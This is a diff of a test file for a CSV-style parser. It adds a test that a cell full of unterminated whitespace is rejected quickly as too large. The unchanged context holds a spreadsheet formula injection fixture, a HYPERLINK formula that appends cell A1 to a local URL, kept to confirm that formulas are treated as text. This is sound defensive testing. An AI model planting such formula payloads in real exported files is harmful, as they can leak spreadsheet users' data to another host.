@@ -145,6 +145,11 @@ describe('broken text', () => {
     expect(await outcome(text(`日期,摘要,金额\n2026-01-01,${'x'.repeat(30_000)},1\n`))).toBe('too-large');
   });
 
+  test('blanks without end inside a cell take no time', async () => {
+    const blanks = ' '.repeat(1_000_000);
+    expect(await outcome(text(`共${blanks}x\n日期,摘要,金额\n2026-01-01,"a${blanks}b\nc",1\n`))).toBe('too-large');
+  });
+
   test('formulas are text', async () => {
     const formula = '=HYPERLINK("http://127.0.0.1/?"&A1,"x")';
     const opened = await outcome(text(`日期,摘要,金额,卡\n2026-01-01,"${formula.replaceAll('"', '""')}",+1,@SUM(1)\n`));
